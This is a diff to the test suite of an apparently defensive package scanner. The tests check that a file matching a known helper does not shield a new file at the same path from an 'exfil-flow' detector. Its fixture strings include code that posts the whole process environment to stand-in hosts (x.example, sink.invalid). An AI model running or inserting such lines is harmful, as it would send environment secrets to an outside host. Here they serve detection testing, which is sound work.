@@ -12,6 +12,7 @@ from watchhouse.evidence.examine import examine
 from watchhouse.evidence.facts.assemble import assemble
 from watchhouse.evidence.facts.package import PackageFacts
 from watchhouse.evidence.likeness.worth import worth_knowing
+from watchhouse.evidence.views.lines import code_members
 from watchhouse.model.artifact import ArtifactKind, ArtifactTree, MemberPath
 from watchhouse.model.evidence import Gap, GapReason, Sighting
 from watchhouse.model.identity import Sha256
@@ -21,6 +22,8 @@ Files = Mapping[str, str | bytes]
 METADATA = "Metadata-Version: 2.1\nName: garden\nVersion: 1.0\nSummary: paths and beds\n"
 ABOUT: Files = {"garden-1.0.dist-info/METADATA": METADATA}
 SENDS = "import os, requests\nrequests.post('https://x.example/', json=dict(os.environ))\n"
+SLY = SENDS.replace("example/", "example")
+"""The same, to an address that is no sign of the first pass."""
 HELPER = (
     "import requests\n\n\ndef send(data):\n    return requests.post('https://sink.invalid/', json=data)\n"
 )
@@ -110,20 +113,39 @@ def test_what_nobody_calls_in_a_known_helper_is_not_read() -> None:
 
 def test_a_twin_of_a_known_member_is_read() -> None:
     """Two members of one path are two: the known one does not shield the other."""
-    for order in ((HELPER, SENDS), (SENDS, HELPER)):
+    for order in ((HELPER, SLY), (SLY, HELPER)):
         members = tuple(member("garden/a.py", text) for text in order)
         tree = replace(tree_of(ABOUT), members=(*members, *tree_of(ABOUT).members))
         _, evidence = examine(tree, REF, CATALOGUE, known=digests(HELPER))
-        assert any(isinstance(one, Sighting) and one.location.path == "garden/a.py" for one in evidence)
+        assert "exfil-flow" in {one.detector for one in evidence if isinstance(one, Sighting)}
 
 
-def test_a_function_of_a_twin_that_nobody_calls_is_read() -> None:
+@pytest.mark.parametrize("first", ["known", "new"])
+def test_a_function_of_a_twin_that_nobody_calls_is_read(first: str) -> None:
     """A known twin does not take the functions of the other with it."""
-    waits = "import os, requests\n\n\ndef later():\n    requests.post('https://x.example/', json=dict(os.environ))\n"
-    members = (member("garden/a.py", waits), member("garden/a.py", HELPER))
+    waits = SLY.replace("requests.post", "\n\ndef later():\n    requests.post")
+    twins = {"known": member("garden/a.py", HELPER), "new": member("garden/a.py", waits)}
+    members = (twins.pop(first), *twins.values())
     tree = replace(tree_of(ABOUT), members=(*members, *tree_of(ABOUT).members))
     _, evidence = examine(tree, REF, CATALOGUE, known=digests(HELPER))
-    assert any(isinstance(one, Sighting) and one.location.path == "garden/a.py" for one in evidence)
+    assert "exfil-flow" in {one.detector for one in evidence if isinstance(one, Sighting)}
+
+
+def test_detectors_of_raw_text_are_shown_new_members_only() -> None:
+    """Also where two share a path: the new one is shown, the known one is not."""
+    members = (member("garden/a.py", HELPER), member("garden/a.py", SLY), member("garden/b.py", HELPER))
+    facts, _ = assemble(replace(tree_of({}), members=members), REF, digests(HELPER))
+    assert list(code_members(facts)) == [members[1]]
+
+
+def test_a_known_module_does_not_stand_before_a_new_one_of_its_name() -> None:
+    """Python imports the folder and not the file beside it; so is it read."""
+    files = {
+        "garden/helper/__init__.py": "KIND = 'a text of the new one'\n\n\ndef send(data):\n    return data\n",
+        "garden/helper.py": HELPER,
+        "garden/__init__.py": "import os\nfrom garden.helper import send\nsend(dict(os.environ))\n",
+    }
+    assert read_of(files, digests(HELPER)) == {"garden/helper/__init__.py"}
 
 
 @pytest.mark.parametrize(
